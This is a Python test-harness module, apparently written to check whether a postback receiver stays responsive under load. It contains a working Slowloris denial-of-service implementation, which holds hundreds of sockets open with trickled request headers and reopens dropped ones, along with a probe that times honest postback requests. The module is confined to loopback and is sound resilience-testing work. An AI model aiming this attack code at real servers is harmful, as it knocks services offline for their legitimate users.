"""A slowloris attack and a postback latency probe, over real sockets (issue 15).

`Slowloris` holds `connections` sockets, each sending one byte of a never-ending request
head per `interval` seconds (activity, so an inactivity timeout never fires); a socket the
server closes is reopened at once, as an attacker would. `probe_postbacks` sends a normal
postback on a fresh connection every `every` seconds meanwhile and measures each answer.
Both bind a chosen loopback source address (127.0.0.x), so a server or proxy sees the
attacker and the honest sender as different clients. Every loop is bounded by its duration.
"""

from __future__ import annotations

import contextlib
import http.client
import select
import socket
import ssl
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

# A plausible head that never ends: the attacker sends it one byte at a time, then header
# lines of filler for ever.
HEAD_START = b"GET /postback?cid=slow HTTP/1.1\r\nHost: receiver\r\nX-Filler: "


class Slowloris:
    """`connections` connections to `address`, each trickling a request head (see the module)."""

    def __init__(self, address: tuple[str, int], connections: int = 300, interval: float = 1.0,
                 source: str = "127.0.0.2", tls: ssl.SSLContext | None = None) -> None:
        self.address = address
        self.connections = connections
        self.interval = interval
        self.source = source
        self.tls = tls
        self.opened = 0  # connections opened, first ones and reopened ones
        self.closed_by_server = 0
        self.bytes_sent = 0
        self._socks: dict[socket.socket, int] = {}  # socket: bytes of the head sent so far
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    def __enter__(self) -> Slowloris:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(30)
        for sock in list(self._socks):
            with contextlib.suppress(OSError):
                sock.close()
        self._socks.clear()

    def _open(self) -> None:
        try:
            sock = socket.create_connection(self.address, timeout=2, source_address=(self.source, 0))
            if self.tls is not None:
                sock = self.tls.wrap_socket(sock, server_hostname="localhost")
            sock.setblocking(False)
        except OSError:
            return  # the server is not accepting: the next round tries again
        self._socks[sock] = 0
        self.opened += 1

    def _drop(self, sock: socket.socket) -> None:
        self._socks.pop(sock, None)
        self.closed_by_server += 1
        with contextlib.suppress(OSError):
            sock.close()

    def _run(self) -> None:
        while not self._stop.is_set():
            round_started = time.monotonic()
            while len(self._socks) < self.connections and not self._stop.is_set() \
                    and time.monotonic() - round_started < self.interval:
                self._open()
            socks = list(self._socks)
            # the server closed some of them (EOF, or an error page): reopen those next round
            readable = select.select(socks, [], [], 0)[0] if socks else []
            for sock in readable:
                try:
                    sock.recv(4096)  # EOF, or an error page (408, 400): either way the server is done
                except (ssl.SSLWantReadError, BlockingIOError):
                    continue  # TLS bookkeeping, no data yet
                except OSError:
                    pass
                self._drop(sock)
            for sock in list(self._socks):
                sent = self._socks[sock]
                byte = HEAD_START[sent:sent + 1] or b"x"
                try:
                    sock.send(byte)
                except (BlockingIOError, ssl.SSLWantWriteError):
                    continue
                except OSError:
                    self._drop(sock)
                    continue
                self._socks[sock] = sent + 1
                self.bytes_sent += 1
            self._stop.wait(max(0.0, self.interval - (time.monotonic() - round_started)))


@dataclass
class ProbeResult:
    """Each probe's (seconds to its answer, status); a failure has status 0 and the timeout."""

    samples: list[tuple[float, int]] = field(default_factory=list)

    @property
    def latencies(self) -> list[float]:
        return sorted(seconds for seconds, _ in self.samples)

    def percentile(self, p: float) -> float:
        values = self.latencies
        if not values:
            return float("inf")
        return values[min(len(values) - 1, max(0, round(p / 100 * len(values)) - 1))]

    @property
    def failures(self) -> int:
        return sum(1 for _, status in self.samples if status == 0)

    def summary(self) -> str:
        return (f"{len(self.samples)} postbacks, p50 {self.percentile(50) * 1000:.0f} ms, "
                f"p99 {self.percentile(99) * 1000:.0f} ms, max {self.percentile(100) * 1000:.0f} ms, "
                f"{self.failures} failed")


def send_postback(address: tuple[str, int], path: str, source: str = "127.0.0.1",
                  tls: ssl.SSLContext | None = None, timeout: float = 5.0) -> int:
    """One GET on a fresh connection from `source`; its status (0: no answer within `timeout`)."""
    if tls is None:
        conn: http.client.HTTPConnection = http.client.HTTPConnection(
            *address, timeout=timeout, source_address=(source, 0))
    else:
        conn = http.client.HTTPSConnection(*address, timeout=timeout, source_address=(source, 0), context=tls)
    try:
        conn.request("GET", path, headers={"Host": "localhost", "Connection": "close"})
        response = conn.getresponse()
        response.read()
        return response.status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        conn.close()


def probe_postbacks(send: Callable[[int], int], seconds: float, every: float = 0.1,
                    timeout: float = 5.0) -> ProbeResult:
    """Call `send(n)` (one postback, returning its status) every `every` seconds for `seconds`."""
    result = ProbeResult()
    deadline = time.monotonic() + seconds
    n = 0
    while time.monotonic() < deadline:
        n += 1
        started = time.monotonic()
        status = send(n)
        took = time.monotonic() - started
        result.samples.append((timeout if status == 0 else took, status))
        time.sleep(max(0.0, every - took))
    return result


def peerclick_postbacks(address: tuple[str, int], click_id: str, source: str = "127.0.0.1",
                        tls: ssl.SSLContext | None = None, tag: str = "probe") -> Callable[[int], int]:
    """`send(n)` for probe_postbacks: PeerClick's postback (seed 002) of conversion `tag-n` on `click_id`."""
    def send(n: int) -> int:
        return send_postback(address, f"/postback?cid={click_id}&txid={tag}-{n}&payout=1.25&currency=USD",
                             source=source, tls=tls)
    return send
